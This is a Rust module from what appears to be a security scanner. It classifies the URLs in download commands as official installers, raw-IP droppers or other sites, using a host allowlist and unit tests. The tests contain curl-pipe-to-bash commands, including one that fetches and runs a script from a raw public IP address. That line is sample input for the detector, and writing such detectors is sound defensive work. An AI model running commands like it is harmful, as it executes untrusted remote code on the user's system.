//! Who serves a download (SEC-4): a tool's official installer from its own
//! site is ordinary setup and only warns; a raw IP address, a paste site or a
//! tunnel is where droppers live.

use std::sync::LazyLock;

use regex::Regex;

/// Hosts of official installers and package indexes (suffix match), plus
/// path prefixes on shared hosts.
const OFFICIAL: &[&str] = &[
    "sh.rustup.rs",
    "rustup.rs",
    "astral.sh",
    "bun.sh",
    "deno.land",
    "deno.com",
    "get.docker.com",
    "docker.com",
    "brew.sh",
    "raw.githubusercontent.com/homebrew/",
    "raw.githubusercontent.com/nvm-sh/",
    "raw.githubusercontent.com/ohmyzsh/",
    "raw.githubusercontent.com/helm/",
    "raw.githubusercontent.com/pyenv/",
    "ollama.com",
    "ollama.ai",
    "nodesource.com",
    "get.pnpm.io",
    "install.python-poetry.org",
    "pyenv.run",
    "sdkman.io",
    "starship.rs",
    "tailscale.com",
    "fly.io",
    "get.helm.sh",
    "k3s.io",
    "supabase.com",
    "vercel.com",
    "railway.app",
    "claude.ai",
    "anthropic.com",
    "openclaw.ai",
    "determinate.systems",
    "nixos.org",
    "volta.sh",
    "mise.run",
    "jdx.dev",
    "opencode.ai",
    "cursor.com",
    "paradigm.xyz",
    "scoop.sh",
    "chocolatey.org",
    "dot.net",
    "dotnet.microsoft.com",
    "aka.ms",
    "pixi.sh",
    "mamba.pm",
    "julialang.org",
    "haskell.org",
    "vector.dev",
    "rvm.io",
    "doppler.com",
    "pulumi.com",
    "hashicorp.com",
    "cli.github.com",
    "modular.com",
    "pypi.org",
    "pypi.nvidia.com",
    "download.pytorch.org",
    "data.pyg.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "npmjs.com",
    "conda.anaconda.org",
    "repo.anaconda.com",
    "developer.download.nvidia.com",
    "nodejs.org",
    "rclone.org",
    "acme.sh",
    "code-server.dev",
    "zerotier.com",
    "coollabs.io",
    "aliyuncli.alicdn.com",
];

static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(https?)://([^\s'\x22`)<>|;]+)").expect("URL regex"));
static RAW_IP: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?$").expect("IP regex"));

/// What the URLs on a line say about a download.
#[derive(Debug, PartialEq, Eq)]
pub enum Origin {
    /// No URL (a variable, a relative path).
    Unknown,
    /// Every URL is an official installer or index, over HTTPS.
    Official,
    /// A raw public IP address (droppers' favourite).
    Untrusted,
    /// Some other site.
    Other,
}

/// Code forges: a package built from a public repository is ordinary, a
/// script piped from one is not (anyone can publish there).
const FORGES: &[&str] = &["github.com", "gitlab.com", "bitbucket.org", "codeberg.org"];

/// Classifies the URLs on `line`; `context` is the text around it, where a
/// tool's own name (the host's main label, `bun` for `bun.sh`) marks its
/// official installer. `forges` counts public code forges as official.
pub fn origin(line: &str, context: &str, forges: bool) -> Origin {
    let mut seen = false;
    let mut official = true;
    for url in URL.captures_iter(line) {
        seen = true;
        let scheme = url[1].to_ascii_lowercase();
        let rest = url[2].to_ascii_lowercase();
        let host = rest.split('/').next().unwrap_or("");
        if RAW_IP.is_match(host) && !private(host) {
            return Origin::Untrusted;
        }
        let listed = OFFICIAL.iter().any(|o| {
            if o.contains('/') {
                rest.starts_with(o)
            } else {
                host == *o || host.ends_with(&format!(".{o}"))
            }
        });
        let forge = forges && FORGES.contains(&host);
        let named = forge || names_its_tool(host, line, context);
        if scheme != "https" || !(listed || named) {
            official = false;
        }
    }
    match (seen, official) {
        (false, _) => Origin::Unknown,
        (true, true) => Origin::Official,
        (true, false) => Origin::Other,
    }
}

fn private(host: &str) -> bool {
    let ip = host.split(':').next().unwrap_or(host);
    ip.starts_with("127.")
        || ip.starts_with("10.")
        || ip.starts_with("192.168.")
        || ip.starts_with("0.")
        || ip.starts_with("169.254.")
        || (ip.starts_with("172.")
            && ip
                .split('.')
                .nth(1)
                .and_then(|o| o.parse::<u8>().ok())
                .is_some_and(|o| (16..32).contains(&o)))
}

/// Whether the host's main label (`pnpm` of `get.pnpm.io`) is the name of
/// the tool the surrounding text installs, outside the URL itself.
fn names_its_tool(host: &str, line: &str, context: &str) -> bool {
    let labels: Vec<&str> = host.split('.').collect();
    let Some(label) = labels.len().checked_sub(2).map(|i| labels[i]) else {
        return false;
    };
    if label.len() < 3 || matches!(label, "get" | "install" | "raw" | "cdn" | "dl" | "download") {
        return false;
    }
    let outside = URL.replace_all(line, "");
    let text = format!("{outside}\n{}", URL.replace_all(context, "")).to_ascii_lowercase();
    text.split(|c: char| !c.is_ascii_alphanumeric())
        .any(|word| word == label)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn official_untrusted_and_other() {
        assert_eq!(
            origin("curl -LsSf https://astral.sh/uv/install.sh | sh", "", false),
            Origin::Official
        );
        assert_eq!(
            origin(
                "curl -fsSL https://cdn-dl.dev/install.sh | sh",
                "Install mytool:",
                false
            ),
            Origin::Other
        );
        assert_eq!(
            origin(
                "curl -fsSL https://mytool.dev/install.sh | sh",
                "## Install mytool",
                false
            ),
            Origin::Official
        );
        assert_eq!(
            origin("curl http://91.92.242.30/x | bash", "", false),
            Origin::Untrusted
        );
        assert_eq!(
            origin("curl http://192.168.1.10/x | bash", "", false),
            Origin::Other
        );
        assert_eq!(origin("curl $URL | bash", "", false), Origin::Unknown);
        assert_eq!(
            origin(
                "curl -sL https://github.com/x/y/releases/download/v1/i.sh | sh",
                "",
                false
            ),
            Origin::Other
        );
        assert_eq!(
            origin(
                "pip install git+https://github.com/databio/geniml.git",
                "",
                true
            ),
            Origin::Official
        );
    }
}
